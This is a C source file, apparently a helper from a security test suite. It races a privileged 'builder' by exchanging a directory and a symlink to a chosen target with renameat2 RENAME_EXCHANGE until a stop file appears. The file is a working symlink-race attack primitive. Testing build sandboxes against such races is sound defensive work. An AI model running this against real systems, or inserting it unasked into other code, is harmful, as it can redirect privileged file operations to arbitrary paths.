/* swap DIR NAME TARGET STOP: DIR/NAME is a directory and, in turn, a symbolic link to TARGET, as fast as the kernel can
 * exchange them, until the file STOP exists. Creates STOP.ready when it has begun. What the builder takes away is made again. */
#include "attack.h"

#include <stdio.h>

static int is_link(const char *name)
{
    char to[4096];
    return readlink(name, to, sizeof(to)) > 0;
}

static int make_both(const char *name, const char *target)
{
    if (!is_link(name) && !is_link("swapped")) {
        unlink("swapped");
        rmdir("swapped");
        if (symlink(target, "swapped") < 0 && errno != EEXIST)
            return -1;
    }
    return mkdir(is_link("swapped") ? name : "swapped", 0777) < 0 && errno != EEXIST ? -1 : 0;
}

int main(int argc, char **argv)
{
    char ready[4096];
    if (argc != 5 || chdir(argv[1]) < 0)
        return setup_failed("chdir");
    if (make_both(argv[2], argv[3]) < 0)
        return setup_failed("make what is swapped");
    snprintf(ready, sizeof(ready), "%s.ready", argv[4]);
    make_file(ready);
    for (unsigned i = 0; i % 64 || access(argv[4], F_OK) < 0; i++)
        if ((i % 64 == 0 && make_both(argv[2], argv[3]) < 0) ||
            (renameat2(AT_FDCWD, argv[2], AT_FDCWD, "swapped", RENAME_EXCHANGE) < 0 && errno != ENOENT))
            return setup_failed("exchange");
    errno = 0;
    held("swapped");
    return 0;
}
